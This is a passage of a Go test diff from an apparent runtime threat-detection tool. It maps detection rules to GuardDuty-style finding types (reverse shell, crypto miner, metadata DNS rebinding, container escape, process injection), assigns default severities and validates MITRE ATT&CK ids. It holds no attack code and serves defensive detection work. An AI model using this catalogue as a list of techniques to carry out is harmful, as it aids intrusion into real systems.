+	"DNS query for a drive-by download domain":                    "Trojan:Runtime/DriveBySourceTraffic!DNS",
+	"DNS query for a DGA domain":                                  "Trojan:Runtime/DGADomainRequest.C!DNS",
+	"Connection to a Tor directory authority":                     "UnauthorizedAccess:Runtime/TorClient",
+	"DNS answer points at the metadata service":                   "UnauthorizedAccess:Runtime/MetadataDNSRebind",
+}
+
+// guardDutySeverity is GuardDuty's default severity for each runtime type
+// with a fixed one (reference: guardduty-ecs-k8s.md section 1): High 8,
+// Medium 5, Low 2. Types GuardDuty scores per finding (SuspiciousTool,
+// SuspiciousCommand) and Vigil's own types may use any of the three.
+var guardDutySeverity = map[string]float64{
+	"Backdoor:Runtime/C&CActivity.B!DNS":                         8,
+	"Backdoor:Runtime/C&CActivity.B":                             8,
+	"CryptoCurrency:Runtime/BitcoinTool.B!DNS":                   8,
+	"CryptoCurrency:Runtime/BitcoinTool.B":                       8,
+	"Impact:Runtime/AbusedDomainRequest.Reputation":              5,
+	"Impact:Runtime/BitcoinDomainRequest.Reputation":             8,
+	"Impact:Runtime/MaliciousDomainRequest.Reputation":           8,
+	"Impact:Runtime/SuspiciousDomainRequest.Reputation":          2,
+	"Trojan:Runtime/BlackholeTraffic!DNS":                        5,
+	"Trojan:Runtime/BlackholeTraffic":                            5,
+	"Trojan:Runtime/DGADomainRequest.C!DNS":                      8,
+	"Trojan:Runtime/DriveBySourceTraffic!DNS":                    8,
+	"Trojan:Runtime/DropPoint!DNS":                               5,
+	"Trojan:Runtime/DropPoint":                                   5,
+	"Trojan:Runtime/PhishingDomainRequest!DNS":                   8,
+	"UnauthorizedAccess:Runtime/MetadataDNSRebind":               8,
+	"UnauthorizedAccess:Runtime/TorClient":                       8,
+	"UnauthorizedAccess:Runtime/TorRelay":                        8,
+	"Execution:Runtime/NewBinaryExecuted":                        5,
+	"Execution:Runtime/NewLibraryLoaded":                         5,
+	"Execution:Runtime/ReverseShell":                             8,
+	"Execution:Runtime/SuspiciousShellCreated":                   2,
+	"Execution:Runtime/MaliciousFileExecuted":                    8,
+	"Impact:Runtime/CryptoMinerExecuted":                         8,
+	"DefenseEvasion:Runtime/FilelessExecution":                   5,
+	"DefenseEvasion:Runtime/ProcessInjection.Proc":               8,
+	"DefenseEvasion:Runtime/ProcessInjection.Ptrace":             5,
+	"DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite": 8,
+	"DefenseEvasion:Runtime/PtraceAntiDebugging":                 2,
+	"DefenseEvasion:Runtime/KernelModuleLoaded":                  8,
+	"PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified":    8,
+	"PrivilegeEscalation:Runtime/ContainerMountsHostDirectory":   5,
+	"PrivilegeEscalation:Runtime/DockerSocketAccessed":           5,
+	"PrivilegeEscalation:Runtime/RuncContainerEscape":            8,
+	"PrivilegeEscalation:Runtime/UserfaultfdUsage":               5,
+	"PrivilegeEscalation:Runtime/ElevationToRoot":                5,
+	"PrivilegeEscalation:Runtime/SuspiciousCommand":              5,
+	"Persistence:Runtime/SuspiciousCommand":                      5,
+	"Discovery:Runtime/SuspiciousCommand":                        2,
+	"Persistence:Runtime/SensitiveFileModified":                  5,
+	"PrivilegeEscalation:Runtime/SensitiveFileModified":          5,
+	"DefenseEvasion:Runtime/SensitiveFileModified":               5,
+}
+
+var (
+	findingTypeRE = regexp.MustCompile(`^(Backdoor|CryptoCurrency|CredentialAccess|DefenseEvasion|Discovery|Execution|Impact|Persistence|PrivilegeEscalation|Trojan|UnauthorizedAccess):Runtime/[A-Za-z0-9&.!]+$`)
+	tacticRE      = regexp.MustCompile(`^TA00(0[1-9]|1[01]|4[0-3])$`)
+	techniqueRE   = regexp.MustCompile(`^T1[0-9]{3}(\.[0-9]{3})?$`)
+)
+
+func TestEveryRuleCarriesFindingMetadata(t *testing.T) {
+	rs := loadCatalogue(t, "")
+	for _, r := range rs.Rules() {
+		t.Run(r.Name, func(t *testing.T) {
+			if !findingTypeRE.MatchString(r.FindingType) {
+				t.Errorf("finding type %q is not Tactic:Runtime/Name", r.FindingType)
+			}
+			if want, ok := guardDutySeverity[r.FindingType]; ok && r.Severity != want {
+				t.Errorf("severity %v, GuardDuty's default for %s is %v", r.Severity, r.FindingType, want)
+			}
+			if r.Severity != 2 && r.Severity != 5 && r.Severity != 8 {
+				t.Errorf("severity %v is not one of GuardDuty's Low 2, Medium 5, High 8", r.Severity)
+			}
+			if len(r.MitreTactics) == 0 || len(r.MitreTechniques) == 0 {
+				t.Fatalf("missing MITRE ids: tactics %v techniques %v", r.MitreTactics, r.MitreTechniques)
+			}
+			for _, id := range r.MitreTactics {
+				if !tacticRE.MatchString(id) {
+					t.Errorf("tactic %q is not an ATT&CK enterprise tactic id", id)
+				}
+			}
+			for _, id := range r.MitreTechniques {
+				if !techniqueRE.MatchString(id) {
+					t.Errorf("technique %q is not an ATT&CK technique id", id)
+				}
+			}
+			if strings.TrimSpace(r.Description) == "" {
+				t.Error("no description")
+			}
+		})
+	}
+}
